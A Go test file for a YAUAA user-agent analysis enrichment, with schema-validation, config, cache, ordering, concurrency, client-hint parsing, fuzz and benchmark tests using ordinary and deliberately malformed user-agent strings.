// TestYAUAAOutputsMatchSchema validates every context of the table, and of awkward user
// agents, against the real nl.basjes/yauaa_context schema.
func TestYAUAAOutputsMatchSchema(t *testing.T) {
	schema := compileYAUAASchema(t)
	s := newSet(t, yauaaConf(`{"cacheSize":0}`))
	inputs := [][2]string{
		{strings.Repeat("Mozilla/5.0 (Linux; Android 14; "+strings.Repeat("Ä", 300)+") ", 3), ""},
		{"Mozilla/5.0 (compatible; " + strings.Repeat("x", 500) + "bot/" + strings.Repeat("9", 400) + "; +http://" + strings.Repeat("a", 300) + ".com/)", ""},
		{"\xff\xfe\x00 (\t;;;) [;/] ((((", ""},
		{uaChromeAndroidK, `Sec-CH-UA-Model: "` + strings.Repeat("Ω", 400) + `"`},
	}
	for _, tt := range yauaaCases {
		inputs = append(inputs, [2]string{tt.ua, strings.Join(tt.headers, "\n")})
	}
	for _, in := range inputs {
		var headers []string
		if in[1] != "" {
			headers = strings.Split(in[1], "\n")
		}
		r := run(t, s, fields(t, "useragent", in[0]), &rawInput{headers: headers})
		var doc any
		if err := json.Unmarshal(r.Derived[0].Data, &doc); err != nil {
			t.Fatalf("yauaa(%q) = %s: %v", in[0], r.Derived[0].Data, err)
		}
		if err := schema.Validate(doc); err != nil {
			t.Errorf("yauaa(%q) = %s does not validate: %v", in[0], r.Derived[0].Data, err)
		}
	}
	var empty any
	if err := json.Unmarshal(run(t, s, fields(t), nil).Derived[0].Data, &empty); err != nil || schema.Validate(empty) != nil {
		t.Errorf("yauaa(empty user agent) does not validate: %v", schema.Validate(empty))
	}
}

// compileYAUAASchema compiles the context schema from ../shared/iglu-central.
func compileYAUAASchema(t *testing.T) *jsonschema.Schema {
	t.Helper()
	path := sharedtest.Path(t, filepath.Join("iglu-central", "schemas", "nl.basjes", "yauaa_context", "jsonschema", "1-0-5"),
		"the Iglu Central schemas are needed to check the context")
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("reading the yauaa_context schema: %v", err)
	}
	var doc map[string]any
	if err := json.Unmarshal(raw, &doc); err != nil {
		t.Fatal(err)
	}
	// The self-describing meta-schema is not reachable offline; Iglu schemas are draft 4.
	delete(doc, "$schema")
	delete(doc, "self")
	b, _ := json.Marshal(doc)
	c := jsonschema.NewCompiler()
	c.Draft = jsonschema.Draft4
	if err := c.AddResource("mem://yauaa_context", bytes.NewReader(b)); err != nil {
		t.Fatal(err)
	}
	s, err := c.Compile("mem://yauaa_context")
	if err != nil {
		t.Fatalf("compiling %s: %v", path, err)
	}
	return s
}

func TestYAUAAConfig(t *testing.T) {
	tests := []struct {
		name, params string
		wantErr      []string
	}{
		{"negative cache", `{"cacheSize":-1}`, []string{"parameters.cacheSize: -1 is negative"}},
		{"cache not an integer", `{"cacheSize":"big"}`, []string{"parameters.cacheSize: want an integer"}},
		{"unknown parameter", `{"cacheSize":10,"uri":"x"}`, []string{`parameters: unknown key "uri"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			writeFile(t, dir, "yauaa.json", yauaaConf(tt.params))
			s, err := Load(t.Context(), dir, Deps{})
			if err == nil {
				s.Close()
			}
			wantErrs(t, err, tt.wantErr...)
		})
	}
	for _, params := range []string{`{}`, `null`, `{"cacheSize":0}`, `{"cacheSize":5}`} {
		s := newSet(t, yauaaConf(params))
		if got := yauaaApply(t, s, uaChromeWindows, nil)["agentName"]; got != "Chrome" {
			t.Errorf("yauaa with parameters %s: agentName = %q, want Chrome", params, got)
		}
	}
}

// TestYAUAACache checks that a cached analysis is reused only for the same user agent and
// client hints.
func TestYAUAACache(t *testing.T) {
	s := newSet(t, yauaaConf(`{"cacheSize":100}`))
	e := s.steps[0].(*yauaa)
	first := e.context(uaChromeWindows, nil)
	again := e.context(uaChromeWindows, []string{"Accept: */*", "Cookie: a=b"})
	if &first[0] != &again[0] {
		t.Errorf("context(%q) twice: the second was analysed again, want it from the cache", uaChromeWindows)
	}
	hinted := e.context(uaChromeWindows, hintsWindows11)
	if bytes.Equal(first, hinted) {
		t.Errorf("context(%q, Windows 11 hints) = the context without hints %s, want a different one", uaChromeWindows, first)
	}
	if again := e.context(uaChromeWindows, hintsWindows11); &again[0] != &hinted[0] {
		t.Errorf("context(%q, Windows 11 hints) twice: the second was analysed again", uaChromeWindows)
	}

	noCache := newSet(t, yauaaConf(`{"cacheSize":0}`)).steps[0].(*yauaa)
	a, b := noCache.context(uaChromeWindows, nil), noCache.context(uaChromeWindows, nil)
	if &a[0] == &b[0] || !bytes.Equal(a, b) {
		t.Errorf("context without cache: same buffer %v, equal %v; want two equal analyses", &a[0] == &b[0], bytes.Equal(a, b))
	}
}

// TestYAUAAOrder checks where YAUAA runs among the enrichments: after the UA parser,
// before JavaScript, as in Snowplow.
func TestYAUAAOrder(t *testing.T) {
	s := newSet(t, yauaaConf(`{}`), defaultConfigs[3].json,
		jsConf(`function process(e) { return [{schema:"iglu:com.acme/js/jsonschema/1-0-0",data:{}}]; }`, ""))
	r := run(t, s, fields(t, "useragent", uaChromeWindows), nil)
	var got []string
	for _, d := range r.Derived {
		got = append(got, d.Schema)
	}
	want := []string{uaContextSchema, yauaaContextSchema, "iglu:com.acme/js/jsonschema/1-0-0"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("derived contexts mismatch (-want +got):\n%s", diff)
	}
}

func TestYAUAAConcurrent(t *testing.T) {
	s := newSet(t, yauaaConf(`{"cacheSize":8}`))
	var wg sync.WaitGroup
	for g := range 4 {
		wg.Go(func() {
			for i := range 40 {
				tt := yauaaCases[(g*7+i)%len(yauaaCases)]
				if got := yauaaApply(t, s, tt.ua, tt.headers)["deviceClass"]; got != tt.want["deviceClass"] {
					t.Errorf("yauaa(%q): deviceClass = %q, want %q", tt.ua, got, tt.want["deviceClass"])
					return
				}
			}
		})
	}
	wg.Wait()
}

func TestParseBrandList(t *testing.T) {
	tests := []struct {
		in   string
		want []chBrand
	}{
		{`"Not_A Brand";v="8", "Chromium";v="120", "Google Chrome";v="120"`,
			[]chBrand{{"Not_A Brand", "8"}, {"Chromium", "120"}, {"Google Chrome", "120"}}},
		{`"Chromium";v="120.0.6099.130" ,"Microsoft Edge" ; v="120.0.2210.91"`,
			[]chBrand{{"Chromium", "120.0.6099.130"}, {"Microsoft Edge", "120.0.2210.91"}}},
		{`"A \"quoted\" one";v=1;x=2, bare;v="3"`, []chBrand{{`A "quoted" one`, "1"}, {"bare", "3"}}},
		{`"unterminated;v="1`, []chBrand{{"unterminated;v=", ""}}},
		{``, nil},
		{`,,;;`, nil},
	}
	for _, tt := range tests {
		if got := parseBrandList(tt.in); !cmp.Equal(tt.want, got, cmp.AllowUnexported(chBrand{})) {
			t.Errorf("parseBrandList(%q) = %v, want %v", tt.in, got, tt.want)
		}
	}
}

func TestWindowsVersionFromHint(t *testing.T) {
	for pv, want := range map[string]string{"15.0.0": "11.0", "13.0.0": "11.0", "10.0.0": "10.0", "1.0.0": "10.0",
		"0.3.0": "8.1", "0.2.0": "8", "0.1.0": "7", "": "", "x": ""} {
		if got := windowsVersionFromHint(pv); got != want {
			t.Errorf("windowsVersionFromHint(%q) = %q, want %q", pv, got, want)
		}
	}
}

func FuzzYAUAA(f *testing.F) {
	for _, tt := range yauaaCases {
		f.Add(tt.ua, strings.Join(tt.headers, "\n"))
	}
	f.Add("Mozilla/5.0 (((;", "Sec-CH-UA: \"\\")
	uap, err := newUAParser(nil)
	if err != nil {
		f.Fatal(err)
	}
	an := &uaAnalyzer{uap: uap}
	f.Fuzz(func(t *testing.T, ua, headers string) {
		if ua == "" {
			return
		}
		var h clientHints
		h.collect(strings.Split(headers, "\n"))
		r := an.analyze(ua, &h)
		data := r.appendJSON(nil)
		var got map[string]string
		if err := json.Unmarshal(data, &got); err != nil {
			t.Fatalf("analyze(%q, %q) = %s: %v", ua, headers, data, err)
		}
		for _, k := range standardFields {
			if got[k] == "" {
				t.Errorf("analyze(%q, %q) has no %s", ua, headers, k)
			}
		}
		for k, v := range got {
			if n := utf8.RuneCountInString(v); n > yauaaMaxValue {
				t.Errorf("analyze(%q, %q): %s has %d characters, want at most %d", ua, headers, k, n, yauaaMaxValue)
			}
		}
	})
}

func BenchmarkYAUAA(b *testing.B) {
	b.Run("hit", func(b *testing.B) {
		e := newSet(b, yauaaConf(`{}`)).steps[0].(*yauaa)
		e.context(uaChromeWindows, nil)
		b.ReportAllocs()
		for b.Loop() {
			e.context(uaChromeWindows, nil)
		}
	})
	b.Run("hit_client_hints", func(b *testing.B) {
		e := newSet(b, yauaaConf(`{}`)).steps[0].(*yauaa)
		headers := append([]string{"Host: c.example", "Accept: */*", "Cookie: sp=abc"}, hintsWindows11...)
		e.context(uaChromeWindows, headers)
		b.ReportAllocs()
		for b.Loop() {
			e.context(uaChromeWindows, headers)
		}
	})
	b.Run("hit_apply", func(b *testing.B) { benchSet(b, newSet(b, yauaaConf(`{}`))) })
	// Misses: every user agent is new to a cache far smaller than their number.
	miss := func(b *testing.B, format string) {
		e := newSet(b, yauaaConf(`{"cacheSize":16}`)).steps[0].(*yauaa)
		uas := make([]string, 4096)
		for i := range uas {
			uas[i] = fmt.Sprintf(format, i)
		}
		b.ReportAllocs()
		i := 0
		for b.Loop() {
			e.context(uas[i%len(uas)], nil)
			i++
		}
	}
	b.Run("miss_desktop", func(b *testing.B) {
		miss(b, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.%d.0 Safari/537.36")
	})
	b.Run("miss_android", func(b *testing.B) {
		miss(b, "Mozilla/5.0 (Linux; Android 13; SM-S9%03dB) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36")
	})
	// A model the built-in prefixes do not know: the ua-parser rules are asked once per
	// model, then remembered.
	b.Run("miss_android_unknown_model", func(b *testing.B) {
		miss(b, "Mozilla/5.0 (Linux; Android 9; ZB6%03dKL) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36")
	})
	b.Run("miss_android_known_unknown_model", func(b *testing.B) {
		miss(b, "Mozilla/5.0 (Linux; Android 9; ZB631KL) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.%d.0 Mobile Safari/537.36")
	})
}
